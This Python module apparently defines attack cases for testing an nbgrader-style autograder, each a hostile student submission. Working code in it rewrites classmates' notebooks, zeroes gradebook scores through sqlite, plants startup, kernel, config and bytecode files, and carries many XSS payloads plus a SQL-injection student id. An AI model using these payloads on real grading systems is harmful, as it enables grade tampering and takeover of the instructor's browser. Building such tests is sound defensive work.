"""Attacks on other people: classmates' work and grades, configuration, the instructor's browser."""

from .attack import Attack
from .course import MEAN_ONLY, RIGHT_MEAN, WRONG_MEAN
from .judge import OWNED

KIND = "others"
MARK = "\nimport os, pathlib\n"


def case(name, goal, code, stock, **rest):
    return Attack(name, goal, KIND, stock, mean=f"{WRONG_MEAN}{MARK}{code}", **rest)


def page(name, goal, stock="script in the instructor's browser", **rest):
    """A right answer with a script for whoever opens its page."""
    return Attack(
        name,
        goal,
        KIND,
        stock,
        mean=rest.pop("mean", RIGHT_MEAN),
        merits=rest.pop("merits", MEAN_ONLY),
        **rest,
    )


def hostile_output(data):
    """A right answer that displays `data` as it is."""
    return f"{RIGHT_MEAN}\nfrom IPython.display import publish_display_data\npublish_display_data({data!r})"


SCRIPT = f"<script>alert('{OWNED}')</script>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'{OWNED}\')">{SCRIPT}</svg>'

ATTACKS = [
    case(
        "edits-classmates-work",
        "Another student's submission is made worse before it is graded.",
        """
for path in pathlib.Path("{{COURSE}}/submitted").glob("zz-*/*/*.ipynb"):
    try:
        text = path.read_text()
        path.write_text(text.replace("float(sum(", "float(0 * sum("))
    except OSError:
        pass""",
        "changes others' grades; changes others' submissions",
        dangerous=True,
    ),
    case(
        "edits-classmates-graded-work",
        "Another student's autograded folder is filled and emptied.",
        """
for path in pathlib.Path("{{COURSE}}/autograded").glob("aa-*/*/*.ipynb"):
    try:
        path.chmod(0o644)
        path.unlink()
    except OSError:
        pass""",
        "class not graded",
        dangerous=True,
    ),
    case(
        "edits-the-gradebook",
        "Points are written straight into the gradebook: one's own up, others' down.",
        """
import sqlite3
try:
    book = sqlite3.connect("{{COURSE}}/gradebook.db", timeout=2)
    book.execute("update grade set manual_score = 0, auto_score = 0")
    book.commit()
    book.close()
except sqlite3.Error:
    pass""",
        "changes others' grades",
        dangerous=True,
    ),
    case(
        "daemon-edits-the-gradebook",
        "A process of its own waits until grading is over, then edits the gradebook.",
        """
import sqlite3, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(3, 256):
        try:
            os.close(number)
        except OSError:
            pass
    for _ in range(20):
        time.sleep(0.5)
        try:
            pathlib.Path("{{OUTSIDE}}/daemon-edits-the-gradebook.mark").touch()
            book = sqlite3.connect("{{COURSE}}/gradebook.db", timeout=1)
            book.execute("update grade set manual_score = 1")
            book.commit()
            book.close()
        except Exception:
            pass
    os._exit(0)""",
        "changes others' grades; writes outside its folder",
        dangerous=True,
    ),
    case(
        "poisons-ipython-startup",
        "A startup file in the grader's HOME runs in every later student's kernel.",
        """
for home in ("{{HOME}}", os.path.expanduser("~")):
    try:
        folder = pathlib.Path(home, ".ipython/profile_default/startup")
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00.py").write_text("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass'])")
    except OSError:
        pass""",
        "changes others' grades",
        dangerous=True,
    ),
    case(
        "poisons-kernelspec",
        "A kernel named python3 in the grader's HOME is used for every later student.",
        """
import json
for home in ("{{HOME}}", os.path.expanduser("~")):
    try:
        folder = pathlib.Path(home, ".local/share/jupyter/kernels/python3")
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "kernel.json").write_text(json.dumps(dict(argv=["touch", "{{OUTSIDE}}/poisons-kernelspec.mark"], display_name="x", language="python")))
    except OSError:
        pass""",
        "the rest of the class not graded; writes outside its folder",
        dangerous=True,
    ),
    case(
        "poisons-configuration",
        "Configuration files are planted where nbgrader and jupyter look for them.",
        """
text = "import pathlib; pathlib.Path('{{OUTSIDE}}/poisons-configuration.mark').touch()"
for name in ("{{COURSE}}/nbgrader_config.py", "{{COURSE}}/jupyter_config.py", "{{HOME}}/.jupyter/nbgrader_config.py", "nbgrader_config.py",
             "../../../nbgrader_config.py", "{{COURSE}}/sitecustomize.py", "{{COURSE}}/nbconvert.py"):
    try:
        pathlib.Path(name).parent.mkdir(parents=True, exist_ok=True)
        with open(name, "a") as file:
            file.write("\\n" + text + "\\n")
    except OSError:
        pass""",
        "changes the configuration",
        dangerous=True,
    ),
    case(
        "poisons-the-support-file",
        "The course's helper module is edited in source/, for all who come later.",
        """
for name in ("{{COURSE}}/source/means/tools.py", "tools.py"):
    try:
        os.chmod(name, 0o644)
        with open(name, "a") as file:
            file.write("\\ndef ramp(length):\\n    return [0.0] * 99\\n")
    except OSError:
        pass""",
        "changes others' grades; changes the instructor's files",
        dangerous=True,
    ),
    case(
        "poisons-temporary-files",
        "Names that later processes may import or read are left in temporary folders.",
        """
import tempfile
for folder in (tempfile.gettempdir(), "/tmp", "/dev/shm"):
    try:
        pathlib.Path(folder, "poisons-temporary-files.py").write_text("x = 1")
        if os.path.realpath(folder) == os.path.realpath("{{HOME}}/../tmp"):
            pathlib.Path("{{OUTSIDE}}/poisons-temporary-files.mark").touch()
    except OSError:
        pass""",
        "writes outside its folder",
        dangerous=True,
    ),
    case(
        "poisons-bytecode",
        "Cached bytecode of the course's helper is replaced beside it.",
        """
import importlib.util, py_compile
try:
    pathlib.Path("evil.py").write_text("def ramp(length): return [0.0] * 99\\ndef same(left, right): return True\\n")
    for place in ("{{COURSE}}/source/means/tools.py", "tools.py"):
        cache = importlib.util.cache_from_source(place)
        py_compile.compile("evil.py", cfile=cache, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    pathlib.Path("{{OUTSIDE}}/poisons-bytecode.mark").touch()
except (OSError, py_compile.PyCompileError):
    pass""",
        "changes the instructor's files; writes outside its folder",
        dangerous=True,
    ),
    page(
        "script-in-html-output",
        "An HTML output carries scripts, handlers and frames.",
        mean=hostile_output(
            {
                "text/html": f'{SCRIPT}<img src=x onerror="alert(\'{OWNED}\')"><iframe srcdoc="{OWNED}<script>1</script>"></iframe>'
                f"<a href=\"java\tscript:alert('{OWNED}')\">x</a><form action=\"javascript:alert('{OWNED}')\"><button>x</button></form>",
                "text/plain": "x",
            }
        ),
    ),
    page(
        "script-in-javascript-output",
        "A JavaScript output runs when the page is opened.",
        mean=hostile_output({"application/javascript": f"alert('{OWNED}')"}),
    ),
    page(
        "script-in-svg-output",
        "A picture in SVG carries a script.",
        mean=hostile_output({"image/svg+xml": SVG}),
    ),
    page(
        "script-in-markdown-output",
        "A Markdown output carries HTML.",
        mean=hostile_output({"text/markdown": f"# x\n{SCRIPT}\n[x](javascript:alert('{OWNED}'))"}),
    ),
    page(
        "script-in-latex-output",
        "A LaTeX output carries HTML.",
        mean=hostile_output({"text/latex": f"$x$ {SCRIPT}"}),
    ),
    page(
        "script-in-image-data",
        "The base64 text of a picture breaks out of its attribute.",
        mean=hostile_output(
            {
                "image/png": f'x" onerror="alert(\'{OWNED}\')" y="',
                "image/jpeg": f"\"><script>alert('{OWNED}')</script>",
            }
        ),
    ),
    page(
        "script-in-image-size",
        "The width in an output's metadata breaks out of its attribute.",
        mean=RIGHT_MEAN
        + f"""
from IPython.display import publish_display_data
publish_display_data({{"image/png": "iVBORw0KGgo="}}, metadata={{"image/png": {{"width": "1 onerror=alert('{OWNED}')", "height": '1" onload="alert(\\'{OWNED}\\')'}}}})""",
    ),
    page(
        "script-in-widget-output",
        "Widget state and views carry scripts.",
        stock="holds",
        mean=hostile_output(
            {
                "application/vnd.jupyter.widget-view+json": {
                    "model_id": f"</script>{SCRIPT}",
                    "version_major": 2,
                    "version_minor": 0,
                },
                "text/plain": "x",
            }
        ),
    ),
    page(
        "script-in-printed-text",
        "Printed text and an error's text carry HTML and terminal escapes.",
        stock="holds",
        mean=RIGHT_MEAN
        + f"\nprint({SCRIPT!r}, '\\x1b]8;;javascript:alert(1)\\x07x')\nraise ValueError({SCRIPT!r})",
    ),
    page(
        "script-in-error-name",
        "An error's type and traceback carry HTML.",
        mean=RIGHT_MEAN + f"\nraise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})",
        stock="holds",
    ),
    page(
        "script-in-code-comment",
        "The solution's text ends the page's element and begins a script.",
        mean=RIGHT_MEAN + f"\n# </pre></div>{SCRIPT}",
        stock="holds",
    ),
    page(
        "script-in-written-answer",
        "A written answer in Markdown carries scripts, handlers and links.",
        why=f"Because {SCRIPT} <img src=x onerror=\"alert('{OWNED}')\"> [x](javascript:alert('{OWNED}'))",
    ),
    page(
        "script-in-extra-markdown",
        "An extra Markdown cell carries a script.",
        edit=lambda notebook: notebook["cells"].append(
            dict(id="mine", cell_type="markdown", metadata={}, source=f"{SCRIPT}")
        ),
    ),
    page(
        "script-in-attachment",
        "A picture attached to a Markdown cell is a script.",
        stock="holds",
        edit=lambda notebook: notebook["cells"].append(
            dict(
                id="mine",
                cell_type="markdown",
                metadata={},
                source="![x](attachment:x.svg)",
                attachments={"x.svg": {"image/svg+xml": SVG, "text/html": SCRIPT}},
            )
        ),
    ),
    page(
        "script-in-raw-cell",
        "A raw cell says that it is HTML.",
        edit=lambda notebook: notebook["cells"].append(
            dict(
                id="mine",
                cell_type="raw",
                metadata={"raw_mimetype": "text/html", "format": "text/html"},
                source=SCRIPT,
            )
        ),
    ),
    page(
        "script-in-metadata",
        "Titles, tags, cell ids and widget state in the metadata carry scripts.",
        edit=lambda notebook: notebook.update(
            metadata=notebook["metadata"]
            | {
                "title": SCRIPT,
                "authors": [{"name": SCRIPT}],
                "widgets": {
                    "application/vnd.jupyter.widget-state+json": {
                        "version_major": 2,
                        "version_minor": 0,
                        "state": {
                            "x": {
                                "model_name": "HTMLModel",
                                "model_module": "@jupyter-widgets/controls",
                                "model_module_version": "2.0.0",
                                "state": {"value": f"</script>{SCRIPT}"},
                            }
                        },
                    }
                },
            }
        ),
    ),
    page(
        "script-from-the-test",
        "What the function prints while a hidden test runs carries HTML outputs.",
        mean=RIGHT_MEAN
        + f"""
from IPython.display import HTML, display
real = mean_filter
def mean_filter(values, width):
    display(HTML({SCRIPT!r}))
    return real(values, width)""",
    ),
    Attack(
        "script-as-student",
        "The student's id is a script.",
        KIND,
        "holds",
        mean=RIGHT_MEAN,
        merits=MEAN_ONLY,
        student="nn-<img src=x onerror=alert('OWNED')>",
    ),
    Attack(
        "student-named-to-break-queries",
        "The student's id is made of quotes, semicolons, patterns and spaces.",
        KIND,
        "holds",
        mean=RIGHT_MEAN,
        merits=MEAN_ONLY,
        student="nn-'; drop table grade; -- [a]*?{x}",
    ),
]
